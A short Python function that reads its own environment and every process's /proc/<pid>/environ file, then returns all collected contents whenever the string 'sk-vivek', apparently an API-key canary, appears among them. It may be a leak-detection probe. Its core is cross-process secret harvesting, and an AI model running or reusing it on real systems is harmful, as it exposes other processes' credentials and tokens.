import os

def f():
    seen = [repr(dict(os.environ))]
    for p in os.listdir('/proc'):
        try:
            seen.append(open(f'/proc/{p}/environ', 'rb').read().decode())
        except OSError:
            pass
    return 1 if 'sk-vivek' not in ''.join(seen) else ''.join(seen)
